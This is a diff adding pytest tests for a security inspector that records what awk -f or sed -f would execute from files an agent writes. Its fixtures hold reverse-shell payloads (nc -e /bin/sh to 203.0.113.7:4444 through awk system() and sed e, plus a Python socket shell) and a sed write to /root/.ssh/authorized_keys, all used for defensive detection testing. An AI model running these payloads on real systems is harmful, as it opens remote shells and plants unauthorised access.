@@ -3,10 +3,14 @@
 from __future__ import annotations
 
 import json
+import shutil
+import subprocess
+from pathlib import Path
 
 import pytest
 
-from gatekeeper.inspectors.written_code import analyse_written, code_kind
+from gatekeeper.inspectors.shell_code import awk_refuses
+from gatekeeper.inspectors.written_code import WrittenCode, analyse_written, code_kind
 
 REVERSE_PY = (
     "import socket,subprocess,os;s=socket.socket();s.connect(('203.0.113.7',4444))\n"
@@ -270,3 +274,106 @@ def test_an_environment_handed_to_a_child_is_not_read() -> None:
     assert "cred.env" not in {c.name for c in child.capabilities}
     leak = analyse_written("/workspace/run.py", "import os\ne = os.environ.copy()\nprint(e)\n")
     assert "cred.env" in {c.name for c in leak.capabilities}
+
+
+# -- what ``awk -f FILE`` / ``sed -f FILE`` would do with a written file (parts #awk, #sed) ------
+AWK_SHELL = 'BEGIN { system("nc -e /bin/sh 203.0.113.7 4444") }\n'
+
+
+def _part(got: WrittenCode, suffix: str) -> set[str] | None:
+    """The capability names of the file's part ``suffix``; None: no record (nothing to say)."""
+    parts = {path.rsplit("#", 1)[1]: code for path, code in got.parts}
+    code = parts.get(suffix.lstrip("#"))
+    return None if code is None else {c.name for c in code.capabilities}
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        AWK_SHELL,
+        # quotes and backticks awk reads inside a string, a regex or a comment prove nothing
+        "# it's `mine`\n" + AWK_SHELL + "/don't/ { n++ }\nx = \"it's\" ; y = 1 / 2 # ') `\n",
+        # a line continuing a string (backslash at its end) may hold anything
+        AWK_SHELL + 'x = "abc\\\ndon\'t"\n',
+        # the first line may continue a program given before it (awk -f a -f FILE)
+        "don't\n" + AWK_SHELL,
+        # ``)``/``]``/``|`` first on a line only after a continued one; an even number of quotes
+        AWK_SHELL + 'x = f(1, \\\n) ; s = "a" "b"\n',
+        # gawk loads a library (or reads a file into its errors) while it parses: never a proof
+        '@load "/workspace/x"\n' + AWK_SHELL + "don't\n",
+    ],
+)
+def test_text_awk_may_run_is_recorded_as_what_it_runs(content: str) -> None:
+    """Every written file is also what ``awk -f`` would run: a program that spawns a reverse
+    shell is recorded as starting processes under ``#awk``, however much prose-like text
+    surrounds it, unless every awk would stop at a syntax error before running any of it."""
+    got = analyse_written("/workspace/notes.md", content)
+    names = _part(got, "#awk")
+    assert names is not None and {"proc.inline_code:awk", "proc.spawn"} <= names, (names, content)
+    if content == AWK_SHELL:
+        assert "net.reverse_shell" in names
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        # a quote in prose, a docstring's ``\"\"\"``, ``)`` starting a line, a Markdown table:
+        # every awk refuses the text whole, so its system() call never runs
+        AWK_SHELL + "Don't run this.\n",
+        'import os\n\n\ndef f(x: str | None) -> None:\n    """Print it."""\n    print(x)\n\n\n'
+        'def g() -> None:\n    """Run\n    it."""\n    os.system(\n        "id"\n    )\n',
+        "| a | b |\n|---|---|\n| system | 1 |\n",
+        AWK_SHELL + "`x`\n",
+    ],
+)
+def test_text_every_awk_refuses_has_no_awk_record(content: str) -> None:
+    """What is not awk at all (Python, Markdown, prose) costs no awk reading: a syntax error
+    every awk stops at before running any of it leaves nothing to record."""
+    assert awk_refuses(content)
+    assert _part(analyse_written("/workspace/notes.md", content), "#awk") is None
+
+
+def test_copies_and_sed_parts_are_kept() -> None:
+    """sed -f runs any file's text too: e, w and s///e are recorded, text sed would refuse is
+    doubt (the reader may be stricter than sed), and the awk part of a refused text is none."""
+    ran = analyse_written("/workspace/fix.txt", "1e nc -e /bin/sh 203.0.113.7 4444\n")
+    assert "net.reverse_shell" in (_part(ran, "#sed") or set())
+    keys = analyse_written("/workspace/fix.txt", "s/x/y/w /root/.ssh/authorized_keys\n")
+    assert any(n.startswith("fs.write") for n in _part(keys, "#sed") or set()), keys
+    prose = analyse_written("/workspace/notes.md", "Don't do that.\nNor this.\n")
+    assert "proc.inline_code:sed" in (_part(prose, "#sed") or set())
+    assert _part(prose, "#awk") is None
+
+
+_AWK_PARSES = [
+    AWK_SHELL,
+    "#!/usr/bin/awk -f\n# it's fine\nBEGIN { FS = \",\" }\n/a'b/ { n[$1]++ }\n"
+    "END { for (k in n) print k, n[k] }\n",
+    'BEGIN { x = "a" \\\n  "b\'c" ; y = f(1,\n 2) }\nfunction f(a, b) { return a }\n',
+    'BEGIN { s = "it\\"s" ; t = 10 / 2 / 5 }\n',
+]
+_AWK_REFUSED = [
+    AWK_SHELL + "don't\n",
+    AWK_SHELL + "  )\n",
+    AWK_SHELL + "| a | b |\n",
+    AWK_SHELL + '    """Docstring\n',
+    AWK_SHELL + 'print "a" "b" "c\n',
+    AWK_SHELL + "x = `id`\n",
+]
+
+
+@pytest.mark.skipif(not (shutil.which("gawk") and shutil.which("mawk")), reason="needs gawk and mawk")
+@pytest.mark.parametrize(
+    ("content", "refused"), [(c, False) for c in _AWK_PARSES] + [(c, True) for c in _AWK_REFUSED]
+)
+def test_awk_refuses_agrees_with_real_awks(tmp_path: Path, content: str, refused: bool) -> None:
+    """What ``awk_refuses`` proves, gawk and mawk agree with: each fails to parse the text (both
+    asked only to parse: ``--pretty-print``, ``-W dump``, which run nothing)."""
+    assert awk_refuses(content) is refused
+    program = tmp_path / "p.awk"
+    program.write_text(content)
+    for argv in (["gawk", "--pretty-print=/dev/null", "-f"], ["mawk", "-W", "dump", "-f"]):
+        done = subprocess.run(
+            [*argv, str(program)], stdin=subprocess.DEVNULL, capture_output=True, timeout=30
+        )
+        assert (done.returncode != 0) is refused, (argv, done.stderr)
